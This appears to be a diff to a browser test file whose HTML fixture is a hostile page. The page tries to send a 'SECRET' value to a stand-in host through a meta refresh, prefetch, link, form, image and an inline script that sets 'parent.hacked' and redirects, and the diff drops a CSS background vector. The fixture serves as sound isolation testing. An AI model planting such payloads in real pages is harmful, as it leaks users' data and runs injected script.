@@ -13,7 +13,7 @@ pytestmark = [pytest.mark.browser, pytest.mark.product]
 AWAY = "https://leads-away.example/?d=SECRET"
 PAGE = f"""<!doctype html><html><head><title>Offer</title>
 <meta http-equiv="refresh" content="0;url={AWAY}"><link rel="dns-prefetch" href="{AWAY}">
-<style>h1 {{ color: rgb(1, 2, 3) }} p {{ background: url({AWAY}) }}</style></head>
+<style>h1 {{ color: rgb(1, 2, 3) }}</style></head>
 <body class="warm" onload="parent.hacked = 1"><h1>An offer</h1><p>Text <a href="{AWAY}">a link</a></p>
 <form action="{AWAY}"><input value="typed"><button>Go</button></form><img src="{AWAY}">
 <script>parent.hacked = 1; document.title = "ran"; location = "{AWAY}"</script></body></html>"""
